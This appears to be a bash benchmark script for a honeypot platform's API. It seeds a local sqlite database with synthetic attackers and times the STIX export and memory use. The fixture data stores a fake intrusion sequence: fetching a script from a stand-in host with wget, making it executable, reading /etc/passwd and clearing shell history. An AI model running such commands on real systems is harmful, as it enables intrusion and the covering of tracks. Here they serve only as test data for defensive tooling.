#!/usr/bin/env bash
# The fleet-wide STIX export (`GET /attackers/export/stix`) of N attackers, each with 5 commands:
# how long the download takes and the peak resident memory of `svc api` (VmHWM) before and after,
# for each N given (default 10,000 and 100,000). The attackers are written straight into a fresh
# sqlite database of the API's own schema (the profiler's columns, as it stores them); a fresh API
# per size. Uses SVC_BIN when set (e.g. a debug build), else builds the release binary.
#   benches/export.sh [attackers...]
set -euo pipefail
cd "$(dirname "$0")/.."
sizes=("$@")
[ ${#sizes[@]} -eq 0 ] && sizes=(10000 100000)
if [ -z "${SVC_BIN:-}" ]; then
    . scripts/lib.sh
    ensure_rust
    cargo build --release --locked -p svc-cli
    SVC_BIN="${CARGO_TARGET_DIR:-target}/release/svc"
fi
command -v curl >/dev/null || { echo "curl is needed" >&2; exit 1; }

work=$(mktemp -d)
api=
password="a long admin password"
stop_api() { if [ -n "$api" ]; then kill "$api" 2>/dev/null && wait "$api" 2>/dev/null; fi; api=; }
cleanup() { stop_api; rm -rf "$work"; }
trap cleanup EXIT

start_api() {
    port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
    env -i PATH="$PATH" RUST_LOG=warn SVC_DATA_DIR="$1" SVC_API_PORT="$port" SVC_LIMITER_ENABLED=false \
        SVC_INGEST_LOG_FILE= SVC_JWT_SECRET=4f9d2c7a1b8e6f3d0c5a9b2e7d4f1a8c SVC_ADMIN_PASSWORD="$password" \
        "$SVC_BIN" api >"$1.log" 2>&1 &
    api=$!
    for _ in $(seq 300); do curl -sf "http://127.0.0.1:$port/api/v1/health" >/dev/null && return 0; sleep 0.1; done
    echo "the API did not come up: $1.log" >&2
    return 1
}
login() {
    curl -sf -H 'Content-Type: application/json' -d "{\"username\":\"admin\",\"password\":\"$1\"}" \
        "http://127.0.0.1:$port/api/v1/auth/login" | python3 -c 'import json,sys; print(json.load(sys.stdin)["access_token"])'
}
peak() { awk '/^VmHWM:/ { print int($2 / 1024) }' "/proc/$api/status"; }

echo "binary: $SVC_BIN"
for n in "${sizes[@]}"; do
    data="$work/data-$n"
    start_api "$data"
    first=$(login "$password")
    curl -sf -o /dev/null -H "Authorization: Bearer $first" -H 'Content-Type: application/json' \
        -d "{\"old_password\":\"$password\",\"new_password\":\"$password again\"}" \
        "http://127.0.0.1:$port/api/v1/auth/change-password"
    stop_api
    python3 - "$data/svc.db" "$n" <<'PY'
import json, sqlite3, sys, uuid
db, n = sqlite3.connect(sys.argv[1]), int(sys.argv[2])
t0 = 1_767_225_600_000
cmds = ["uname -a", "wget http://198.51.100.9/x.sh", "chmod +x x.sh", "cat /etc/passwd", "history -c"]
fp = json.dumps([{"fingerprint_type": "ja3", "ja3": "771,4865-4866,0-11,29,0", "ja4": "t13d1516h2_8daaf6152771_e5627efa2ab1"}])
attackers, commands, log_id = [], [], 0
for i in range(n):
    u = str(uuid.uuid4())
    ip = f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}"
    attackers.append((u, ip, t0 + i, t0 + i + 60_000, 12, 2, 1, json.dumps(["ssh", "telnet"]), json.dumps(["web-01"]),
                      "web-01", 0, 1, 2, fp, len(cmds), "{}", "{}", t0 + i + 60_000))
    for c in cmds:
        log_id += 1
        commands.append((u, log_id, t0 + i + log_id % 60_000, "ssh", "web-01", c))
db.executemany("insert into attackers (uuid, ip, first_seen, last_seen, event_count, service_count, decky_count, "
               "services, deckies, traversal_path, is_traversal, bounty_count, credential_count, fingerprints, "
               "command_count, behavior, fold_state, updated_at) values (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)", attackers)
db.executemany("insert into attacker_commands (attacker_uuid, log_id, timestamp, service, decky, command) "
               "values (?,?,?,?,?,?)", commands)
db.commit()
PY
    start_api "$data"
    token=$(login "$password again")
    before=$(peak)
    start=$(date +%s.%N)
    bytes=$(curl -sf -o "$work/fleet.stix.json" -w '%{size_download}' -H "Authorization: Bearer $token" \
        "http://127.0.0.1:$port/api/v1/attackers/export/stix")
    end=$(date +%s.%N)
    after=$(peak)
    objects=$(python3 -c 'import json,sys; print(len(json.load(open(sys.argv[1]))["objects"]))' "$work/fleet.stix.json")
    printf '%7d attackers: %6.1f s, %d MiB, %d objects; peak RSS %d MiB before, %d MiB after\n' "$n" \
        "$(echo "$end - $start" | bc)" "$((bytes / 1048576))" "$objects" "$before" "$after"
    stop_api
    rm -rf "$data" "$work/fleet.stix.json"
done
